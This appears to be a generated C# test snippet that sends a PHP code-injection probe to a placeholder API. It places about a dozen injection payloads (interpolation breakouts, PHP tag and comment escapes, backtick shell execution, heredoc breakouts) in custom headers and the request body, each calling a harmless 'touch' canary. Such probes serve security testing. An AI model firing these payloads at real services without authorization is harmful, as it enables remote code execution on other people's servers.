using System;
using System.Net.Http;
using System.Net.Http.Headers;

using var client = new HttpClient();
using var request = new HttpRequestMessage(HttpMethod.Post, "https://api.example.com/run");
request.Headers.Add("X-Try-1", "{${touch('snipgen-canary')}}");
request.Headers.Add("X-Try-2", "'.touch('snipgen-canary').'");
request.Headers.Add("X-Try-3", "\".touch(\"snipgen-canary\").\"");
request.Headers.Add("X-Try-4", "{$_SERVER[touch(\"snipgen-canary\")]}");
request.Headers.Add("X-Try-5", "$_SERVER[argv] ${_SERVER} $argv[0] {$argv[0]}");
request.Headers.Add("X-Try-6", "?><?php touch('snipgen-canary'); ?>");
request.Headers.Add("X-Try-7", "*/ touch('snipgen-canary'); /*");
request.Headers.Add("X-Try-8", "// ?><?= touch('snipgen-canary') ?>");
request.Headers.Add("X-Try-9", "\\'.touch('snipgen-canary').\\'");
request.Headers.Add("X-Try-10", "\\\\'.touch('snipgen-canary').\\\\'");
request.Headers.Add("X-Try-11", "`touch snipgen-canary`");
request.Headers.Add("X-Try-12", "<%= touch %>");
request.Headers.Add("X-Try-15", "\\");
request.Content = new StringContent(@"{${touch('snipgen-canary')}}
'.touch('snipgen-canary').'
"".touch(""snipgen-canary"").""
{$_SERVER[touch(""snipgen-canary"")]}
$_SERVER[argv] ${_SERVER} $argv[0] {$argv[0]}
?><?php touch('snipgen-canary'); ?>
*/ touch('snipgen-canary'); /*
// ?><?= touch('snipgen-canary') ?>
\'.touch('snipgen-canary').\'
\\'.touch('snipgen-canary').\\'
`touch snipgen-canary`
<%= touch %>

EOT
.touch('snipgen-canary').<<<EOT


EOF;
touch('snipgen-canary');

\");
request.Content.Headers.ContentType = new MediaTypeHeaderValue("text/plain");

using var response = await client.SendAsync(request);
Console.WriteLine(await response.Content.ReadAsStringAsync());
